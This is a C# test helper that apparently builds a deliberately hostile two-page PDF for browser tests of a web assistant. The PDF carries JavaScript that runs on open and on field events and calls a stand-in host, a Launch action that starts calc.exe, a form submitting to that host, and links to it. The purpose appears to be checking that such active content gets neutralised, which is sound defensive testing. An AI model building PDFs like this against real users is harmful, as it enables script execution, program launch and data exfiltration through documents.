using System.Globalization;
using System.Text;

namespace FranceTravail.Assistant.Web.Tests.Browser;

/// <summary>A PDF of two pages that tries whatever a PDF can: scripts at its opening, on its pages and in its fields, links, a form that is sent, an attached file, a program to start.</summary>
internal static class HostilePdf
{
    public const string Host = "ailleurs.exemple";

    private const string Script = $"<</S/JavaScript/JS(app.alert\\('bonjour'\\); app.launchURL\\('http://{Host}/script'\\);)>>";

    private const string Page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 5 0 R/Resources<</Font<</F 6 0 R>>>>/AA<</O 7 0 R>>/Annots[8 0 R 9 0 R 10 0 R 11 0 R 12 0 R]>>";

    /// <param name="words">One line of Latin-1 words without brackets, on each page.</param>
    public static byte[] With(string words)
    {
        var content = $"BT /F 9 Tf 60 700 Td ({words}) Tj ET";
        string[] objects =
        [
            "<</Type/Catalog/Pages 2 0 R/OpenAction 7 0 R/AA<</WC 7 0 R>>/Names<</JavaScript<</Names[(a) 7 0 R]>>>>/AcroForm<</Fields[10 0 R 11 0 R]/NeedAppearances true/CO[10 0 R]>>>>",
            "<</Type/Pages/Kids[3 0 R 4 0 R]/Count 2>>",
            Page,
            Page,
            $"<</Length {content.Length.ToString(CultureInfo.InvariantCulture)}>>\nstream\n{content}\nendstream",
            "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>",
            Script,
            $"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(http://{Host}/lien)>>>>",
            "<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/Launch/F(calc.exe)>>>>",
            "<</Type/Annot/Subtype/Widget/FT/Tx/T(nom)/V(Votre nom)/DA(/F 9 Tf)/Rect[60 600 300 620]/AA<</K 7 0 R/Fo 7 0 R/C 7 0 R>>>>",
            $"<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(envoi)/MK<</CA(Envoyer)>>/Rect[60 560 300 580]/A<</S/SubmitForm/F<</FS/URL/F(http://{Host}/envoi)>>>>>>",
            "<</Type/Annot/Subtype/RichMedia/Rect[60 400 300 500]/RichMediaContent<<>>>>",
        ];
        return Encoding.Latin1.GetBytes(Written(objects));
    }

    private static string Written(string[] objects)
    {
        var file = new StringBuilder("%PDF-1.7\n");
        var offsets = new List<int>();
        foreach (var (number, body) in objects.Index())
        {
            offsets.Add(file.Length);
            file.Append(CultureInfo.InvariantCulture, $"{number + 1} 0 obj\n{body}\nendobj\n");
        }

        var table = file.Length;
        file.Append(CultureInfo.InvariantCulture, $"xref\n0 {objects.Length + 1}\n0000000000 65535 f \n");
        foreach (var offset in offsets) file.Append(CultureInfo.InvariantCulture, $"{offset:0000000000} 00000 n \n");
        return file.Append(CultureInfo.InvariantCulture, $"trailer\n<</Size {objects.Length + 1}/Root 1 0 R>>\nstartxref\n{table}\n%%EOF\n").ToString();
    }
}
